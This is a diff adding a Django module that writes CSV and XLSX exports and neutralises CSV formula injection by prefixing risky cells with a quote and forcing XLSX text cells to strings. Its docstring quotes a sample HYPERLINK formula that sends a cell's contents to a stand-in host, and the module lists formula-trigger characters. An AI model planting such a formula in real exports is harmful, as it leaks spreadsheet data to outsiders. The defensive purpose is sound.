@@ -1,0 +1,132 @@
+"""CSV and XLSX exports: every spreadsheet the application writes goes through this module.
+
+Names, inscrição numbers and other text in an export may come from candidates (the portal's
+`nome_social`) or from an imported file. A spreadsheet opening a CSV, or an XLSX cell stored
+as a formula, runs text like `=HYPERLINK("http://x/?"&C2,"Ver")`: CSV (formula) injection.
+So, following the OWASP rule for CSV injection:
+
+- a text cell starting with `=`, `+`, `-`, `@`, tab or carriage return is prefixed with a
+  single quote (`'`), which spreadsheets show as text and never execute;
+- XLSX text cells are written explicitly as strings (data type "s"): never a formula, never
+  an error code such as `#N/A`; characters XLSX cannot hold (control characters) are
+  dropped instead of failing the whole export;
+- real numbers (int, Decimal, float) stay numbers: numeric cells in XLSX, decimal comma in
+  the CSV (Excel in pt-BR); a negative number is a number, not text to neutralise.
+
+Dates are written as dates (XLSX) or DD/MM/AAAA (CSV); None is an empty cell.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+from collections.abc import Iterable, Sequence
+from decimal import Decimal
+from typing import Any
+
+from django.http import Http404, HttpResponse
+from django.utils import timezone
+from django.utils.http import content_disposition_header
+
+#: First characters that make a spreadsheet treat a cell as a formula (OWASP, CSV injection).
+PERIGOSOS = ("=", "+", "-", "@", "\t", "\r")
+FORMATOS = ("csv", "xlsx")
+TIPO_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+TIPO_CSV = "text/csv; charset=utf-8"
+SEPARADOR_CSV = ";"  # Excel in pt-BR: the comma is the decimal separator
+
+
+def neutralizar(texto: str) -> str:
+    """The text as a spreadsheet will show it and never execute it."""
+    return "'" + texto if texto.startswith(PERIGOSOS) else texto
+
+
+def _booleano(valor: bool) -> str:
+    return "sim" if valor else "não"
+
+
+def _numero_csv(valor: int | float | Decimal) -> str:
+    if isinstance(valor, int):
+        return str(valor)
+    if isinstance(valor, float):
+        valor = Decimal(repr(valor))
+    return format(valor, "f").replace(".", ",")
+
+
+def celula_csv(valor: Any) -> str:
+    """One cell's CSV text: numbers with a decimal comma, dates DD/MM/AAAA, text neutralised."""
+    if valor is None:
+        return ""
+    if isinstance(valor, bool):
+        return _booleano(valor)
+    if isinstance(valor, int | float | Decimal):
+        return _numero_csv(valor)
+    if isinstance(valor, dt.datetime):
+        if timezone.is_aware(valor):
+            valor = timezone.localtime(valor)
+        return valor.strftime("%d/%m/%Y %H:%M")
+    if isinstance(valor, dt.date):
+        return valor.strftime("%d/%m/%Y")
+    return neutralizar(str(valor))
+
+
+def escrever_csv(saida, colunas: Sequence[str], linhas: Iterable[Sequence[Any]]) -> None:
+    """Header and rows to a text stream, `;`-separated, every cell through `celula_csv`."""
+    escritor = csv.writer(saida, delimiter=SEPARADOR_CSV)
+    escritor.writerow([celula_csv(c) for c in colunas])
+    for linha in linhas:
+        escritor.writerow([celula_csv(c) for c in linha])
+
+
+def gerar_csv(colunas: Sequence[str], linhas: Iterable[Sequence[Any]]) -> bytes:
+    """UTF-8 with BOM (so Excel reads the accents), `;`-separated."""
+    buffer = io.StringIO()
+    escrever_csv(buffer, colunas, linhas)
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+
+
+def _celula_xlsx(folha, valor: Any):
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+    if isinstance(valor, bool):
+        valor = _booleano(valor)
+    elif isinstance(valor, dt.datetime) and timezone.is_aware(valor):
+        valor = timezone.make_naive(valor)  # XLSX has no time zones: local time
+    if valor is None or isinstance(valor, int | float | Decimal | dt.date):
+        return WriteOnlyCell(folha, value=valor)
+    texto = neutralizar(ILLEGAL_CHARACTERS_RE.sub("", str(valor)))
+    celula = WriteOnlyCell(folha, value=texto)
+    celula.data_type = "s"  # a string, whatever it looks like: never a formula or error code
+    return celula
+
+
+def gerar_xlsx(colunas: Sequence[str], linhas: Iterable[Sequence[Any]],
+               titulo: str = "Planilha") -> bytes:
+    """One sheet (write-only: constant memory), every cell through `_celula_xlsx`."""
+    from openpyxl import Workbook
+
+    livro = Workbook(write_only=True)
+    # Sheet titles: at most 31 characters, none of []:*?/\
+    folha = livro.create_sheet("".join(c for c in str(titulo) if c not in "[]:*?/\\")[:31])
+    folha.append([_celula_xlsx(folha, c) for c in colunas])
+    for linha in linhas:
+        folha.append([_celula_xlsx(folha, c) for c in linha])
+    buffer = io.BytesIO()
+    livro.save(buffer)
+    return buffer.getvalue()
+
+
+def resposta_exportacao(formato: str, nome: str, colunas: Sequence[str],
+                        linhas: Iterable[Sequence[Any]], titulo: str = "Planilha"
+                        ) -> HttpResponse:
+    """The download of `nome`.csv or `nome`.xlsx; 404 for another format."""
+    if formato == "csv":
+        resposta = HttpResponse(gerar_csv(colunas, linhas), content_type=TIPO_CSV)
+    elif formato == "xlsx":
+        resposta = HttpResponse(gerar_xlsx(colunas, linhas, titulo), content_type=TIPO_XLSX)
+    else:
+        raise Http404
+    resposta["Content-Disposition"] = content_disposition_header(True, f"{nome}.{formato}")
+    return resposta
